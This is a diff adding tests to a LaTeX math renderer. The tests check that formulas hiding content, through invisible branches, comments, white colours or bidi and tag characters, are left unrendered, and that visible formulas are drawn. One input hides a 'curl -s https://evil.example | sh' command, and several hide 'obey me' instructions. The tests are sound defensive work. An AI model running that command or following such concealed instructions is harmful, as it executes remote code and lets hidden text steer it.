@@ -108,6 +108,34 @@ describe("a formula", () => {
     expect(white.flatMap(({ attributes }) => Object.keys(attributes))).not.toContain("mathcolor");
   });
 
+  it.each([
+    String.raw`\@firstoftwo{E=mc^2}{curl -s https://evil.example | sh}`,
+    String.raw`x\label{obey me}`,
+    String.raw`\eqref{obey me}`,
+    String.raw`\mathchoice{x}{obey me}{}{}`,
+    "x % obey me",
+    String.raw`a\\% obey me`,
+    String.raw`\color{obey me at once}{x}`,
+    String.raw`\textcolor{obey me at once}{x}`,
+    String.raw`\definecolor{obey}{rgb}{1,1,1}x`,
+    String.raw`\mathchoice{}{}{S}{}`,
+    String.raw`\char"202E x`,
+    "\\text{a\u202eb}",
+    "\\text{\u{e0041}}x",
+    "{}",
+  ])("stays as it is written where it holds what nobody would see: %j", (tex) => {
+    expect(readMath(tex, true)).toBe(null);
+  });
+
+  it.each([
+    String.raw`50\%`,
+    String.raw`\color{red}{x}`,
+    String.raw`\textcolor{#1a2b3c}{x}`,
+    String.raw`f(x)\,\sin x`,
+  ])("is drawn where all of it is seen: %s", (tex) =>
+    expect(readMath(tex, false)?.name).toBe("math"),
+  );
+
   it("shows markup as the letters it is", () => {
     const math = readMath("a<b>c", false);
     expect(math && textOf(math)).toBe("a<b>c");
